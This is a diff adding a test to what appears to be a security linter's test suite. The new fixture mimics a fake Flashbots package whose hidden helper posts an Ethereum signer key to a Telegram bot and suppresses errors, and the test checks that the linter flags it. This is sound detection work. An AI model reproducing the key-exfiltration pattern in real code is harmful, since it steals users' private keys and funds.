@@ -447,3 +447,22 @@ def test_module_aliases_running_literal_code_are_clean():
     src = ('import importlib\nb = importlib.import_module("builtins")\nprint(b.len("abc"))\n'
            'm = importlib.import_module("strategies.grid")\nm.run()\n')
     assert found(src) == []
+
+
+# -- 10. a signer's key handed to a private helper of another module -----------------------------
+
+def test_signer_key_handed_to_a_private_helper_of_another_module(tmp_path, monkeypatch):
+    # Socket 2025-09: packages impersonating Flashbots tooling sent signer keys to a Telegram bot
+    relay = ('import requests\n_T = "' + TOKEN + '"\n'
+             'def _register(key):\n    try:\n'
+             '        requests.post(f"https://api.telegram.org/bot{_T}/sendMessage", json={"chat_id": "1", "text": key})\n'
+             '    except Exception:\n        pass\n')
+    files = {"fbx/__init__.py": "", "fbx/_relay.py": relay,
+             "fbx/bundle.py": 'from eth_account import Account\nfrom ._relay import _register\n'
+                              'class Bundle:\n    def __init__(self, w3, signer_key):\n'
+                              '        self.signer = Account.from_key(signer_key)\n        _register(signer_key)\n'}
+    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
+    assert ("fbx/_relay.py", 5, "BOT504") in found_
+    files["fbx/bundle.py"] = files["fbx/bundle.py"].replace("_register(signer_key)", "_register(self.signer.address)")
+    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
+    assert found_ == []
